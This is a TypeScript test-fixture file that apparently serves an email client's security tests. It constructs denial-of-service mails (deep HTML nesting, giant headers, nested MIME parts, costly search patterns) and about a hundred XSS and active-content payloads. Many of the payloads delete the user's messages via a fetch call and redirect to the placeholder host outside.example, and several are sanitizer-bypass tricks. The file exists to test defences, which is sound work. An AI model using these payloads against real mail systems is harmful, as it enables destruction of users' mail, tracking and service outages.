// Mails that are made to hurt: what costs a careless reader seconds, and what would act in a careless page.

import { scaled } from '../support/thoroughness.ts'

const MEGABYTE = scaled(1_000_000)

const mail = (headers: string, body = 'x') =>
  Buffer.from(`From: a@example.org\r\nTo: b@example.org\r\n${headers}\r\n\r\n${body}\r\n`, 'latin1')
const withHeader = (name: string, value: string) => mail(`Subject: s\r\n${name}: ${value}`)
const typed = (type: string, body: string) =>
  mail(`Subject: s\r\nMIME-Version: 1.0\r\nContent-Type: ${type}`, body)
const html = (body: string) => typed('text/html; charset=utf-8', body)

const parts = (count: number) =>
  typed('multipart/mixed; boundary=B', `${'--B\r\nContent-Type: text/plain\r\n\r\nx\r\n'.repeat(count)}--B--`)

function nested(levels: number): Buffer {
  const open = Array.from(
    { length: levels },
    (_, level) => `--B${level}\r\nContent-Type: multipart/mixed; boundary=B${level + 1}\r\n\r\n`,
  )
  return typed('multipart/mixed; boundary=B0', open.join(''))
}

const lists = (entry: string) =>
  mail(['Cc', 'Bcc', 'Reply-To'].map(name => `${name}: ${entry.repeat(60_000 / entry.length)}`).join('\r\n'))

const encoded = (encoding: string, body: string) =>
  mail(
    `Subject: s\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: ${encoding}`,
    body,
  )

/** Each costs time out of proportion to its size where reading is not linear. */
export const HEAVY_MAILS: readonly (readonly [string, Buffer])[] = [
  ['headings in headings', html('<h1>'.repeat(scaled(20_000)))],
  ['headings in blocks in headings', html('<h1><div>'.repeat(scaled(20_000)))],
  ['tags that never end', html('<b'.repeat(scaled(500_000)))],
  ['comments that never end', html('<!--'.repeat(scaled(250_000)))],
  ['open bold tags', html('<b>'.repeat(scaled(100_000)))],
  [
    'open tags of many looks before many blocks',
    html(
      Array.from({ length: 5_000 }, (_, i) => `<font color=c${i}>`).join('') + '<p>'.repeat(scaled(50_000)),
    ),
  ],
  ['end tags that nothing opened', html('<b>'.repeat(scaled(20_000)) + '</i>'.repeat(scaled(100_000)))],
  ['tables in tables', html('<table><tr><td>'.repeat(scaled(50_000)))],
  ['quotes in quotes', html(`${'<blockquote>'.repeat(scaled(20_000))}${'word '.repeat(scaled(20_000))}`)],
  ['one long word in a quote', html(`<blockquote>${'x'.repeat(MEGABYTE)}`)],
  ['attributes without end', html(`<a ${'href="x" '.repeat(scaled(100_000))}`)],
  ['entities without end', html('&#'.repeat(scaled(500_000)))],
  ['spaces in HTML', html(`a${' '.repeat(MEGABYTE)}b`)],
  ['semicolons in a content type', withHeader('Content-Type', `text/plain${';'.repeat(scaled(100_000))}`)],
  ['quotes in a content type', withHeader('Content-Type', `text/plain; a="${'\\"'.repeat(scaled(100_000))}`)],
  ['parameters in a content type', withHeader('Content-Type', `text/plain${'; a=b'.repeat(scaled(50_000))}`)],
  ['brackets in a message id', withHeader('Message-ID', `x${'<'.repeat(scaled(200_000))}y`)],
  ['brackets in an address', withHeader('Cc', '<'.repeat(scaled(200_000)))],
  ['quotes in an address', withHeader('Cc', '"a" '.repeat(scaled(50_000)))],
  ['comments in an address', withHeader('Cc', '('.repeat(scaled(200_000)))],
  ['groups in an address', withHeader('Cc', 'a:'.repeat(scaled(100_000)))],
  ['a hundred thousand addresses', withHeader('Cc', 'a@example.org, '.repeat(scaled(100_000)))],
  ['encoded words that never end', withHeader('X-Words', '=?utf-8?q?'.repeat(scaled(50_000)))],
  ['encoded words', mail(`Subject: ${'=?utf-8?q?a?= '.repeat(scaled(50_000))}`)],
  ['links to unsubscribe', withHeader('List-Unsubscribe', '<'.repeat(scaled(100_000)))],
  ['comments in a link to unsubscribe', withHeader('List-Unsubscribe', '('.repeat(scaled(100_000)))],
  ['plus signs in an address', withHeader('Cc', `${'a+'.repeat(scaled(50_000))}@example.org`)],
  ['tags', withHeader('X-Tags', 'a,'.repeat(scaled(30_000)))],
  ['fifty thousand equal headers', mail(`Subject: s\r\n${'X-A: b\r\n'.repeat(scaled(50_000))}X-End: 1`)],
  ['a header folded a hundred thousand times', mail(`Subject: s${'\r\n a'.repeat(scaled(100_000))}`)],
  ['two hundred thousand parts', parts(scaled(200_000))],
  ['parts in parts', nested(2_000)],
  ['boundaries that are none', typed('multipart/mixed; boundary=B', '--B x\r\n'.repeat(scaled(150_000)))],
  [
    'spaces in quoted-printable',
    mail(
      'Subject: s\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable',
      `a${' '.repeat(MEGABYTE)}a`,
    ),
  ],
  ['addresses that are names', lists('a@b<c@d>,')],
  ['groups in every list of addresses', lists('a:')],
  ['options in a selection', html(`<select>${'<option>'.repeat(scaled(200_000))}`)],
  ['formatting that is adopted', html('<a><b><i><p>'.repeat(scaled(30_000)))],
  ['paragraphs that only end', html('</p>'.repeat(scaled(300_000)))],
  ['text before the rows of a table', html(`<table>${'<tr>x'.repeat(scaled(60_000))}`)],
  ['foreign objects in pictures', html('<svg><foreignObject>'.repeat(scaled(30_000)))],
  [
    'fifty thousand links',
    html(
      Array.from({ length: scaled(50_000) }, (_, i) => `<a href="https://example.org/${i}">x</a>`).join(''),
    ),
  ],
  ['functions of a style that never end', html(`<p style="${'background:url('.repeat(scaled(50_000))}">`)],
  ['soft line breaks', encoded('quoted-printable', '=\r\n'.repeat(scaled(330_000)))],
  ['padding', encoded('base64', '='.repeat(MEGABYTE))],
  ['mails in mails', typed('message/rfc822', 'Content-Type: message/rfc822\r\n\r\n'.repeat(3_000))],
  [
    'one boundary for all levels',
    typed(
      'multipart/mixed; boundary=B',
      '--B\r\nContent-Type: multipart/mixed; boundary=B\r\n\r\n'.repeat(20_000),
    ),
  ],
  ['a shift without end', typed('text/plain; charset=iso-2022-jp', '\x1b$B'.repeat(scaled(300_000)))],
  ['a picture of enormous size', typed('image/gif', `GIF89a\xff\xff\xff\xff${','.repeat(MEGABYTE)}`)],
  ['a line of a megabyte', mail('Subject: s', 'x'.repeat(MEGABYTE))],
  ['words to search', mail('Subject: s', 'a'.repeat(MEGABYTE))],
  [
    'some megabytes of HTML',
    html('<p>paragraph <a href="https://example.org">link</a></p>'.repeat(scaled(60_000))),
  ],
]

/** What a checker of HTML has no stack or no time for. */
export const UNCHECKABLE_MAILS: readonly (readonly [string, Buffer])[] = [
  ['unbroken texts in one another', html('<nobr>'.repeat(60_000))],
  ['formatting that is adopted', html('<a><b><i><p>'.repeat(10_000))],
]

/** Searches that cost a careless matcher seconds. */
export const HEAVY_SEARCHES = [
  '%a%a%a%a%a%a%b',
  `${'a'.repeat(200)}_b`,
  '%'.repeat(4_000),
  'subject:%a%a%a%a%b',
  'a '.repeat(2_000),
  '"'.repeat(4_000),
]

const ACT = 'fetch("/api/v1/messages",{method:"DELETE"});top.location="https://outside.example/"'

/** HTML that would run, load, send or leave in a page that lets it. */
const ACTING_HTML = [
  `<script>${ACT}</script>`,
  `<SCRIPT SRC=https://outside.example/x.js></SCRIPT>`,
  `<script type=module>${ACT}</script>`,
  `<img src=x onerror='${ACT}'>`,
  `<img src="x" onload='${ACT}'>`,
  `<svg onload='${ACT}'>`,
  `<svg><script>${ACT}</script></svg>`,
  `<svg><animate onbegin='${ACT}' attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"></use></svg>`,
  `<svg><foreignObject><iframe src="https://outside.example/"></iframe></foreignObject></svg>`,
  `<svg><a xlink:href="javascript:${ACT}"><text y=20>x</text></a></svg>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:1">x</maction></math>`,
  `<math><mi//xlink:href="data:x,<script>1</script>">`,
  `<body onload='${ACT}'>`,
  `<body onpageshow='${ACT}'>`,
  `<body background="https://outside.example/b.png">`,
  `<iframe src="https://outside.example/"></iframe>`,
  `<iframe srcdoc="<script>${ACT.replaceAll('"', '&quot;')}</script>"></iframe>`,
  `<iframe src="javascript:1"></iframe>`,
  `<iframe src="cid:part"></iframe>`,
  `<frameset><frame src="https://outside.example/"></frameset>`,
  `<object data="https://outside.example/x.swf"></object>`,
  `<object data="cid:part" type="text/html"></object>`,
  `<object data="data:text/html,<script>1</script>"></object>`,
  `<embed src="https://outside.example/x.swf">`,
  `<embed src="cid:part" type="text/html">`,
  `<applet code="x.class" codebase="https://outside.example/"></applet>`,
  `<portal src="https://outside.example/"></portal>`,
  `<fencedframe src="https://outside.example/"></fencedframe>`,
  `<meta http-equiv="refresh" content="0;url=https://outside.example/">`,
  `<meta http-equiv="refresh" content="0;url=/api/v1/messages">`,
  `<meta http-equiv="Set-Cookie" content="a=b">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<base href="https://outside.example/"><img src="x.png"><a href="y">y</a>`,
  `<base target="_top"><a href="https://outside.example/">y</a>`,
  `<link rel=stylesheet href="https://outside.example/x.css">`,
  `<link rel=prefetch href="https://outside.example/">`,
  `<link rel=preconnect href="https://outside.example/">`,
  `<link rel=dns-prefetch href="//outside.example">`,
  `<link rel=icon href="https://outside.example/i.png">`,
  `<link rel=manifest href="https://outside.example/m.json">`,
  `<link rel=import href="https://outside.example/i.html">`,
  `<style>@import url("https://outside.example/x.css");</style>`,
  `<style>body{background:url(https://outside.example/b.png)}</style>`,
  `<style>@font-face{font-family:x;src:url(https://outside.example/f.woff)}body{font-family:x}</style>`,
  `<style>li{list-style-image:url("https://outside.example/l.png")}</style><ul><li>x</ul>`,
  `<style>a::after{content:url(https://outside.example/c.png)}</style><a>x</a>`,
  `<style></style><script>${ACT}</script></style>`,
  `<style><!--</style><script>${ACT}</script>--></style>`,
  `<p style="background-image:url('https://outside.example/p.png')">x</p>`,
  `<style>a{background:u\\72l(https://outside.example/e.png)}</style><a>x</a>`,
  `<p style="background:image-set('https://outside.example/s.png' 1x)">x</p>`,
  `<p style="behavior:url(https://outside.example/x.htc)">x</p>`,
  `<p style="-moz-binding:url(https://outside.example/x.xml#a)">x</p>`,
  `<p style="width:expression(alert(1))">x</p>`,
  `<img src="https://outside.example/pixel.gif" width=1 height=1>`,
  `<img srcset="https://outside.example/a.png 1x, https://outside.example/b.png 2x">`,
  `<picture><source srcset="https://outside.example/a.png"><img alt=x></picture>`,
  `<img src="//outside.example/pixel.gif">`,
  `<img lowsrc="https://outside.example/l.gif" dynsrc="https://outside.example/d.gif">`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${ACT.replaceAll('"', '')}'/>">`,
  `<img src="/api/v1/messages">`,
  `<image src="https://outside.example/i.png">`,
  `<input type=image src="https://outside.example/i.png">`,
  `<input autofocus onfocus='${ACT}'>`,
  `<select autofocus onfocus='${ACT}'></select>`,
  `<textarea autofocus onfocus='${ACT}'></textarea>`,
  `<button autofocus onfocus='${ACT}'>x</button>`,
  `<form action="https://outside.example/" method=post><input name=a><button>send</button></form>`,
  `<form id=f action="/api/v1/messages"></form><button form=f formaction="https://outside.example/">x</button>`,
  `<isindex action="https://outside.example/" type=image>`,
  `<details open ontoggle='${ACT}'>x</details>`,
  `<marquee onstart='${ACT}'>x</marquee>`,
  `<video autoplay src="https://outside.example/v.mp4" poster="https://outside.example/p.png"></video>`,
  `<video><source onerror='${ACT}' src=x></video>`,
  `<audio autoplay src="https://outside.example/a.mp3"></audio>`,
  `<track src="https://outside.example/t.vtt" onload='${ACT}'>`,
  `<table background="https://outside.example/t.png"><tr><td background="https://outside.example/d.png">x</table>`,
  `<a href="javascript:${ACT}">x</a>`,
  `<a href="JaVaScRiPt&colon;alert(1)">x</a>`,
  `<a href="java\tscript:alert(1)">x</a>`,
  `<a href="data:text/html,<script>1</script>">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="https://outside.example/" ping="https://outside.example/ping" target=_top>x</a>`,
  `<a href=x onclick='${ACT}' onmouseover='${ACT}'>x</a>`,
  `<area href="javascript:1" shape=default>`,
  `<map name=m><area shape=default href="javascript:1"></map><img usemap=#m src=x>`,
  `<noscript><p title="</noscript><img src=x onerror='${ACT}'>"></noscript>`,
  `<title></title><script>${ACT}</script>`,
  `<textarea></textarea><script>${ACT}</script>`,
  `<xmp></xmp><script>${ACT}</script>`,
  `<plaintext><script>${ACT}</script>`,
  `<template><script>${ACT}</script></template>`,
  `<template shadowrootmode=open><script>${ACT}</script></template>`,
  `<div><slot onslotchange='${ACT}'></slot></div>`,
  `<x onclick='${ACT}' tabindex=1 id=x autofocus onfocus='${ACT}'>x</x>`,
  `<!--><script>${ACT}</script>-->`,
  `<![CDATA[<script>${ACT}</script>]]>`,
  `<?xml version="1.0"?><?xml-stylesheet href="javascript:1"?>`,
  `<a href="https://outside.example/"style="position:fixed;inset:0">everything</a>`,
  `<div id=x style="animation-name:x" onanimationstart='${ACT}'></div><style>@keyframes x{}</style>`,
  `<img src=x:x onerror\n=\n'${ACT}'>`,
  `<script\u0000>${ACT}</script>`,
  `<scr<script>ipt>${ACT}</scr</script>ipt>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=1&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror='${ACT}'>">`,
]

/** Parts that a browser would run if it were shown one in the inbox's origin. */
const ACTING_PARTS: readonly (readonly [string, string])[] = [
  ['text/html', `<script>${ACT}</script>`],
  ['image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg" onload='${ACT}'/>`],
  ['application/xhtml+xml', `<html xmlns="http://www.w3.org/1999/xhtml"><script>${ACT}</script></html>`],
  ['text/xml', `<x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${ACT}</h:script></x>`],
  ['application/xml', `<?xml-stylesheet type="text/xsl" href="#"?><x/>`],
  ['multipart/x-mixed-replace; boundary=x', `--x\r\nContent-Type: text/html\r\n\r\n<script>${ACT}</script>`],
  ['text/plain', `<script>${ACT}</script>`],
  ['', `<script>${ACT}</script>`],
  ['text/html\u00a0', `<script>${ACT}</script>`],
  ['application/pdf', `%PDF-1.4 ${ACT}`],
]

const withPart = (type: string, content: string) =>
  typed(
    'multipart/related; boundary=B',
    `--B\r\nContent-Type: text/html\r\n\r\n<p>mail</p><iframe src="cid:part"></iframe><img src="cid:part"><object data="cid:part"></object>\r\n` +
      `--B\r\nContent-Type: ${type}\r\nContent-ID: <part>\r\nContent-Disposition: inline; filename="f"\r\n\r\n${content}\r\n--B--`,
  )

export const ACTING_MAILS: readonly Buffer[] = [
  ...ACTING_HTML.map(body => html(body)),
  ...ACTING_PARTS.map(([type, content]) => withPart(type, content)),
  mail(`Subject: <script>${ACT}</script><img src=x onerror='${ACT}'>\r\nX-Tags: <b>,"onclick`),
  mail(
    `Subject: s\r\nReply-To: "<img src=x onerror='1'>" <"><script>"@example.org>`,
    `<script>${ACT}</script> https://outside.example/`,
  ),
]
